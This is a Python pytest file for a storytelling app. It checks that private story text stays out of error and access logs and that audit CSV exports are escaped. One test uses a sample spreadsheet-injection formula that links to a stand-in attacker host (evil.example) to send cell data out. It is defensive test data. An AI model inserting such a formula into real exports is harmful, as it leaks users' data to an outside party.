"""Nothing personal reaches a log: database errors, the access log, and the audit CSV."""

from __future__ import annotations

import csv
import io
import logging
from collections.abc import Iterator

import pytest
from sqlalchemy import event
from sqlmodel import func, select
from typer.testing import CliRunner

from storybank.audit import record_event
from storybank.cli import app as cli
from storybank.models import Story
from tests.builders import make_user, token_headers
from tests.web.pages import log_in

SECRET = "Mrs Quill-Harrow told us about her son's overdose"
LOGGERS = ("", "storybank", "sqlalchemy", "sqlalchemy.engine", "uvicorn", "uvicorn.error")


@pytest.fixture
def every_log(caplog) -> Iterator[pytest.LogCaptureFixture]:
    """Every record at DEBUG, from the app, SQLAlchemy and uvicorn alike."""
    for name in LOGGERS:
        caplog.set_level(logging.DEBUG, logger=name)
    yield caplog


def _everything_logged(caplog) -> str:
    """Each record as a handler would write it, traceback included."""
    formatter = logging.Formatter("%(name)s %(levelname)s %(message)s")
    return "\n".join(formatter.format(record) for record in caplog.records)


@pytest.fixture
def failing_story_inserts(engine) -> Iterator[None]:
    """The database refuses to write a story, as a full disk would."""

    def refuse(conn, cursor, statement, parameters, context, executemany) -> None:
        if statement.lstrip().upper().startswith("INSERT INTO STORIES"):
            raise engine.dialect.loaded_dbapi.OperationalError("disk I/O error")

    event.listen(engine, "before_cursor_execute", refuse)
    yield
    event.remove(engine, "before_cursor_execute", refuse)


def test_a_database_error_logs_its_class_table_and_reference_but_never_the_text(
    client, session, headers, somerset, every_log, failing_story_inserts
):
    story = {"site_id": somerset.id, "title": "Talking Point", "what_happened": SECRET}
    # The test client raises whatever the app hands on to the server (whose own error log
    # would print the message): nothing is.
    response = client.post("/api/v1/stories", json=story, headers=headers)

    assert response.status_code == 500
    body = response.json()["error"]
    reference = response.headers["x-request-id"]
    assert body["code"] == "server_error" and reference in body["message"]
    assert SECRET not in response.text
    logged = _everything_logged(every_log)
    assert SECRET not in logged and "Quill-Harrow" not in logged
    failure = [r for r in every_log.records if r.levelno >= logging.ERROR]
    assert len(failure) == 1
    assert reference in failure[0].getMessage()
    assert "OperationalError" in failure[0].getMessage()
    assert "on table stories" in failure[0].getMessage()
    session.expire_all()
    assert session.exec(select(func.count()).select_from(Story)).one() == 0


def test_a_failing_page_shows_the_reference_and_logs_no_text(
    client, session, staff, somerset, every_log, failing_story_inserts
):
    csrf = log_in(client, staff)
    form = {"csrf_token": csrf, "site_id": str(somerset.id), "what_happened": SECRET}
    page = client.post("/stories/new", data=form, follow_redirects=False)

    assert page.status_code == 500
    assert page.headers["x-request-id"] in page.text
    assert SECRET not in _everything_logged(every_log)


def test_serve_gives_uvicorn_an_access_log_that_masks_search_terms(monkeypatch, tmp_path):
    import uvicorn

    given: dict = {}
    monkeypatch.setattr(uvicorn, "run", lambda *args, **kwargs: given.update(kwargs))
    monkeypatch.setenv("STORYBANK_DATA_DIR", str(tmp_path))
    assert CliRunner().invoke(cli, ["serve"]).exit_code == 0

    written = _access_log_line(
        given["log_config"], "/api/v1/stories?q=Joan%20Quill&site_id=2&next=%2Fstories%3Fq%3Dx"
    )

    assert "Joan" not in written and "Quill" not in written
    assert "q=***" in written and "next=***" in written
    assert "site_id=2" in written and "GET /api/v1/stories?" in written
    assert '" 200' in written


def _access_log_line(config: dict, target: str) -> str:
    """What uvicorn's access logger writes for one request under this logging set-up."""
    stream = io.StringIO()
    config["handlers"]["access"]["stream"] = stream
    access = logging.getLogger("uvicorn.access")
    kept = (access.handlers[:], access.filters[:], access.propagate, access.level)
    try:
        logging.config.dictConfig(config)
        access.info('%s - "%s %s HTTP/%s" %d', "127.0.0.1:50000", "GET", target, "1.1", 200)
    finally:
        access.handlers[:], access.filters[:], access.propagate, access.level = (
            kept[0],
            kept[1],
            kept[2],
            kept[3],
        )
    return stream.getvalue()


def test_audit_csv_neutralises_formulas(client, session, staff):
    admin = make_user(session, roles=["admin"])
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    record_event(
        session=session, actor=staff, action="story.create", entity="story", entity_id=formula
    )
    session.commit()

    response = client.get("/api/v1/audit/export.csv", headers=token_headers(session, admin))

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    shown = [row["entity_id"] for row in rows if row["action"] == "story.create"]
    assert shown == ["'" + formula]
    assert not any(cell.startswith("=") for row in rows for cell in row.values())
